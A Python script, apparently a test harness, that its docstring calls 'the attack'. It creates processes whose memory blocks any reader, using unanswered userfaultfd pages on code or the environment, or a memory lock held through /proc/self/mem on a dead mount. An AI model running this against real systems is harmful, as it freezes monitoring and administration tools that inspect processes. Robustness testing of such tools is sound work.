"""The attack: hanging_memory.py HOW UID [FILE]. A process of that user whose memory does not answer who reads it, while it
computes. Says "ready".
  code FILE     its code is of a file that begins with a page that nobody brings (userfaultfd); FILE is made, on a tmpfs
  environ       so is a page of its environment, of which there must be a lot
  lock FILE     FILE is on a mount that answers nothing any more: a thread reads of it by /proc/self/mem, and holds the lock of
                the process's memory meanwhile; another one waits to change it, and everybody behind that
"""
import ctypes
import fcntl
import mmap
import os
import platform
import struct
import sys
import threading
import time

PAGE = mmap.PAGESIZE
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
LIBC.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
MACHINE = {"x86_64": (323, b"\xeb\xfe"), "aarch64": (282, b"\x00\x00\x00\x14")}[platform.machine()]  # userfaultfd; a jump to itself
UFFDIO_API, UFFDIO_REGISTER, MISSING = 0xc018aa3f, 0xc020aa00, 1
MADV_DONTNEED = 4


class Unanswered:
    """Whoever touches these pages waits for this process, which does nothing."""

    def __init__(self):
        self.fd = LIBC.syscall(MACHINE[0], os.O_CLOEXEC)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "userfaultfd")
        fcntl.ioctl(self.fd, UFFDIO_API, struct.pack("QQQ", 0xaa, 0, 0))

    def register(self, begin, size):
        fcntl.ioctl(self.fd, UFFDIO_REGISTER, struct.pack("QQQQ", begin, size, MISSING, 0))


def become(user):
    os.setgroups([])
    os.setresgid(user, user, user)
    os.setresuid(user, user, user)
    LIBC.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: as if it had always been that user's


def say():
    print("ready", flush=True)


def code(unanswered, path):
    file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o755)
    os.ftruncate(file, 3 * PAGE)  # the first page is a hole
    os.pwrite(file, MACHINE[1], PAGE)
    at = LIBC.mmap(None, 3 * PAGE, mmap.PROT_READ | mmap.PROT_EXEC, mmap.MAP_SHARED, file, 0)
    unanswered.register(at, PAGE)
    say()
    ctypes.CFUNCTYPE(None)(at + PAGE)()


def environ(unanswered):
    fields = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
    begin, end = int(fields[47]), int(fields[48])  # env_start, env_end
    begin, end = (begin + PAGE - 1) // PAGE * PAGE, end // PAGE * PAGE
    assert end > begin, "the environment is too small"
    unanswered.register(begin, end - begin)
    assert LIBC.madvise(begin, end - begin, MADV_DONTNEED) == 0
    say()
    while True:
        pass


def lock(path):
    file = os.open(path, os.O_RDONLY)
    at = LIBC.mmap(None, PAGE, mmap.PROT_READ, mmap.MAP_SHARED, file, 0)
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    print("mapped", flush=True)
    sys.stdin.readline()  # now the mount does not answer any more
    sys.setswitchinterval(0.001)

    # Both are there, and that is said, before the lock is held: a thread that begins takes it, too.
    all_said = threading.Event()

    def hold():
        all_said.wait()
        os.pread(memory, 1, at)

    holder = threading.Thread(target=hold, daemon=True)

    def change():
        all_said.wait()
        status = os.open(f"/proc/self/task/{holder.native_id}/stat", os.O_RDONLY)
        while b") D " not in os.pread(status, 200, 0):
            time.sleep(0.01)  # until the holder has the lock
        LIBC.mmap(None, PAGE, 0, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)

    for thread in (holder, threading.Thread(target=change, daemon=True)):
        thread.start()
    say()
    all_said.set()
    while True:
        pass


def main(how, user, *file):
    unanswered = None if how == "lock" else Unanswered()
    become(int(user))
    if how == "lock":
        lock(*file)
    {"code": code, "environ": environ}[how](unanswered, *file)


if __name__ == "__main__":
    main(*sys.argv[1:])
